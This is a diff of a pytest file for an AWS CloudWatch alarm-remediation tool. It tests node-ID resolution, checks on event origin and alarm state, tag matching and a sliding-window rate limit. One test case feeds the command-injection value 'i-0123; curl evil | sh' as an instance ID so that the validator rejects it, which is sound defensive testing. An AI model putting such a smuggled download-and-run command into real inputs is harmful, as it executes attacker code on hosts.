@@ -7,12 +7,17 @@ from datetime import UTC, datetime, timedelta
 
 import pytest
 from fleetwave.core.remediation import (
+    AlarmDescription,
     AlarmStateChange,
+    RefusalCode,
     RuleError,
+    StormStart,
+    admit_storm,
+    check_alarm,
+    check_origin,
     decide_verification,
-    hour_bucket,
-    hour_bucket_end,
     match_rule,
+    missing_tags,
     parse_rule,
     parse_rules,
     resolve_target,
@@ -99,43 +104,83 @@ def test_name_rules_match_before_tag_rules_and_tag_rules_need_the_tags():
 
 
 # ---------------------------------------------------------------------------------------- finding the node
-def test_the_node_comes_from_the_alarm_metrics_instance_id_dimension():
-    assert resolve_target(rule(), event()).instance_id == NODE
+def alarm(kind="metric", state="ALARM", **dimensions) -> AlarmDescription:
+    """The alarm as DescribeAlarms holds it (dimension name -> values)."""
+    dims = dimensions if dimensions or kind == "composite" else {"InstanceId": (NODE,)}
+    return AlarmDescription(
+        "web-nginx-down-1", "arn:aws:cloudwatch:us-east-1:123456789012:alarm:web-nginx-down-1", kind, state, dims
+    )
+
+
+def test_the_node_comes_from_the_alarms_own_instance_id_dimension_not_from_the_event():
+    assert resolve_target(rule(), alarm()).instance_id == NODE
+    # Whatever the event says is not even looked at here
+    assert resolve_target(rule(), alarm(InstanceId=("i-0fedcba9876543210",))).instance_id == "i-0fedcba9876543210"
 
 
 @pytest.mark.parametrize(
-    ("kwargs", "problem"),
+    ("described", "problem", "code"),
     [
-        ({"composite": True}, "no InstanceId dimension (a composite alarm)"),
-        ({"dimensions": {"AutoScalingGroupName": "web"}}, "no InstanceId dimension (its metrics)"),
+        (alarm("composite"), "no InstanceId dimension (a composite alarm)", RefusalCode.NO_NODE),
+        (alarm(AutoScalingGroupName=("web",)), "no InstanceId dimension (its metrics)", RefusalCode.NO_NODE),
         (
-            {"dimensions": {"InstanceId": "i-0123; curl evil | sh"}},
+            alarm(InstanceId=("i-0123; curl evil | sh",)),
             "the dimension:InstanceId value is not a managed node ID",
+            RefusalCode.NOT_A_NODE_ID,
         ),
         (
-            {"dimensions": {"InstanceId": "i-0123456789ABCDEF0"}},
+            alarm(InstanceId=("i-0123456789ABCDEF0",)),
             "the dimension:InstanceId value is not a managed node ID",
+            RefusalCode.NOT_A_NODE_ID,
+        ),
+        # A trailing newline does not slip through the pattern ($ would match before it; \Z does not)
+        (
+            alarm(InstanceId=(f"{NODE}\n",)),
+            "the dimension:InstanceId value is not a managed node ID",
+            RefusalCode.NOT_A_NODE_ID,
+        ),
+        (
+            alarm(InstanceId=(NODE, "i-0fedcba9876543210")),
+            "2 different InstanceId dimensions: ambiguous",
+            RefusalCode.NO_NODE,
         ),
     ],
 )
-def test_no_node_is_found_for_composite_alarms_or_values_that_are_not_node_ids(kwargs, problem):
-    target = resolve_target(rule(), event(**kwargs))
-    assert target.instance_id is None and target.problem == problem
-
-
-def test_metric_math_alarms_naming_two_nodes_are_ambiguous():
-    data = alarm_state_change_event("web-nginx-down-1", event_id="e", at=NOW, dimensions={"InstanceId": NODE})
-    second = json.loads(json.dumps(data["detail"]["configuration"]["metrics"][0]))
-    second["metricStat"]["metric"]["dimensions"]["InstanceId"] = "i-0fedcba9876543210"
-    data["detail"]["configuration"]["metrics"].append(second)
-    target = resolve_target(rule(), AlarmStateChange.model_validate(data))
-    assert target.instance_id is None and "ambiguous" in target.problem
+def test_no_node_is_found_for_composite_alarms_or_values_that_are_not_node_ids(described, problem, code):
+    target = resolve_target(rule(), described)
+    assert target.instance_id is None and target.problem == problem and target.code == code
 
 
 def test_a_tag_target_reads_the_alarms_tag():
     tagged = rule(target="tag:fleetwave:instance")
-    assert resolve_target(tagged, event(composite=True), {"fleetwave:instance": NODE}).instance_id == NODE
-    assert resolve_target(tagged, event(composite=True), {}).problem == "no tag fleetwave:instance on the alarm"
+    assert resolve_target(tagged, alarm("composite"), {"fleetwave:instance": NODE}).instance_id == NODE
+    assert resolve_target(tagged, alarm("composite"), {}).problem == "no tag fleetwave:instance on the alarm"
+
+
+def test_an_event_is_checked_against_this_account_region_and_the_alarm_it_names():
+    own = {"partition": "aws", "account": "123456789012", "region": "us-east-1"}
+    assert check_origin(event(), **own) is None
+    assert check_origin(event(account="999999999999"), **own).code == RefusalCode.FOREIGN_ACCOUNT
+    assert check_origin(event(region="eu-west-1"), **own).code == RefusalCode.FOREIGN_REGION
+    forged = event().model_copy(update={"resources": ["arn:aws:cloudwatch:us-east-1:999999999999:alarm:x"]})
+    assert check_origin(forged, **own).code == RefusalCode.FOREIGN_ALARM_ARN
+    # The alarm must exist, be in ALARM now, and say what the event says
+    assert check_alarm(event(), alarm()) is None
+    assert check_alarm(event(), None).code == RefusalCode.ALARM_NOT_FOUND
+    assert check_alarm(event(), alarm(state="OK")).code == RefusalCode.ALARM_NOT_IN_ALARM
+    assert check_alarm(event(), alarm("composite")).code == RefusalCode.EVENT_CONTRADICTS_ALARM
+    other = alarm(InstanceId=("i-0fedcba9876543210",))
+    assert check_alarm(event(), other).code == RefusalCode.EVENT_CONTRADICTS_ALARM
+    # A composite alarm's own event carries no metrics: nothing to contradict
+    assert check_alarm(event(composite=True), alarm("composite")) is None
+
+
+def test_missing_tags_lists_each_required_tag_the_node_lacks():
+    assert missing_tags({"role": "web", "fleetwave:managed": "true"}, {"role": "db"}) == [
+        "fleetwave:managed=true",
+        "role=web",
+    ]
+    assert missing_tags({"role": "web"}, {"role": "web", "env": "prod"}) == []
 
 
 # ---------------------------------------------------------------------------------------- what runs
@@ -158,16 +203,28 @@ def test_the_event_model_reads_what_aws_documents_and_ignores_the_rest():
     data["document"] = "AWS-RunRemoteScript"
     parsed = AlarmStateChange.model_validate(data)
     assert parsed.alarm_name == "web-nginx-down-1"
-    assert parsed.alarm_arn == "arn:aws:cloudwatch:us-east-1:123456789012:alarm:web-nginx-down-1"
+    assert parsed.resources == ["arn:aws:cloudwatch:us-east-1:123456789012:alarm:web-nginx-down-1"]
+    assert parsed.dimension_values("InstanceId") == [NODE]
     assert "parameters" not in parsed.model_dump() and "document" not in parsed.model_dump()
     with pytest.raises(ValueError, match="not a 'CloudWatch Alarm State Change' event"):
         AlarmStateChange.model_validate({**data, "source": "custom.forged"})
 
 
 # ---------------------------------------------------------------------------------------- storm and verification
-def test_the_storm_breaker_counts_per_utc_hour():
-    assert hour_bucket(NOW) == "2026-01-02T10"
-    assert hour_bucket_end(NOW) == NOW.replace(hour=11, minute=0)
+def test_the_storm_breaker_is_a_sliding_window_not_a_clock_hour():
+    # Given two starts at 10:59 with a limit of 2 per hour
+    at_1059 = datetime(2026, 1, 2, 10, 59, tzinfo=UTC)
+    starts = [StormStart(at_1059, "e-1"), StormStart(at_1059 + timedelta(seconds=10), "e-2")]
+    # At 11:00 (a new clock hour) the window still holds both: refused, with when the first leaves it
+    refused = admit_storm(starts, event_id="e-3", now=at_1059 + timedelta(minutes=1), limit=2)
+    assert not refused.admitted and refused.count == 2 and refused.free_at == at_1059 + timedelta(hours=1)
+    # An hour after the first start, one slot is free
+    admitted = admit_storm(starts, event_id="e-3", now=at_1059 + timedelta(hours=1, seconds=1), limit=2)
+    assert admitted.admitted and admitted.count == 2
+    assert [s.event_id for s in admitted.starts] == ["e-2", "e-3"]  # the old start is dropped from the item
+    # A redelivered event is counted once: admitted again, nothing added
+    again = admit_storm(admitted.starts, event_id="e-3", now=at_1059 + timedelta(hours=1, seconds=5), limit=2)
+    assert again.admitted and again.starts == admitted.starts and again.count == 2
 
 
 def test_verification_waits_for_the_run_then_for_the_alarm():
